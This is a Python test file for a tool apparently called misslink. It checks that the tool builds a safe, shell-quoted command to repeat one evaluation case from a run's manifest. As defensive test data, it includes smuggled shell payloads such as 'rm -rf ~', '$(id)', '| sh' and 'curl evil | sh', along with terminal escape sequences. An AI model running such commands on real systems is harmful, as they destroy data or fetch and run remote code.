"""The command that repeats one case: built from the run's own, safe to paste."""

from __future__ import annotations

import pytest

from misslink.report.command import Command, one_case, quoted


def test_the_recorded_command_keeps_what_judges_and_drops_where_it_went():
    recorded = (
        "misslink evaluate app.py:chain --goldset 'my gold.jsonl' --judge openai:m --out=reports/a "
        "--overwrite --case x --case=y --json --k 3 --dry-run"
    )

    assert one_case({"command": recorded}, "elsewhere") == Command(
        "misslink evaluate app.py:chain --goldset 'my gold.jsonl' --judge openai:m --k 3",
        "reports/a-case-",
    )


def test_without_a_folder_in_the_command_the_run_s_own_gives_the_new_one_its_name():
    command = {"command": "misslink evaluate a.py:app --goldset g.jsonl"}

    assert one_case(command, "reports/2026 one/").out == "'reports/2026 one'-case-"
    assert one_case(command).out == "reports/one-case-"


def test_another_command_is_told_by_the_manifest():
    manifest = {
        "command": "misslink demo --out reports/demo", "app": "a/app.py:chain", "traces": None,
        "goldset": "a/g.jsonl", "judge": "embedded", "k": 3, "depth": 100, "id_key": None,
        "embedding": "app", "seed": 0,
    }  # fmt: skip

    assert one_case(manifest, "reports/demo") == Command(
        "misslink evaluate a/app.py:chain --goldset a/g.jsonl --judge embedded --k 3 --depth 100 "
        "--embedding app --seed 0",
        "reports/demo-case-",
    )
    traces = {"traces": "t.jsonl", "goldset": "g.jsonl"}
    assert one_case(traces).head == "misslink evaluate --traces t.jsonl --goldset g.jsonl"


@pytest.mark.parametrize(
    "manifest",
    [
        {}, {"command": "misslink evaluate 'unclosed"}, {"command": 7},
        {"app": "module.chain", "goldset": "g.jsonl"}, {"app": "a.py:x", "goldset": "the gold set"},
    ],
)  # fmt: skip
def test_a_run_of_objects_has_no_command_and_says_why(manifest):
    found = one_case(manifest)

    assert (found.head, found.out) == ("", "")
    assert "started from Python" in found.reason


def test_a_hostile_manifest_adds_no_command_of_its_own():
    found = one_case({"command": "misslink evaluate a; rm -rf ~ && $(id) `id` | sh > f"})

    assert found.head == "misslink evaluate 'a;' rm -rf '~' '&&' '$(id)' '`id`' '|' sh '>' f"
    assert one_case({"command": "curl evil | sh"}).head == ""
    assert one_case({"command": "misslink evaluate a\x1b[2J"}).head == ""


@pytest.mark.parametrize(
    "text", ["a\nb", "\x1b[31m", "\x00", "a\u202eb", "\ud800", "a\u2028b", "\x9b"]
)
def test_an_id_that_is_not_safe_to_paste_is_refused(text):
    assert quoted(text) is None


def test_an_id_is_quoted_for_a_shell():
    assert quoted("q-7") == "q-7"
    assert quoted("$(id) 'x'") == """'$(id) '"'"'x'"'"''"""
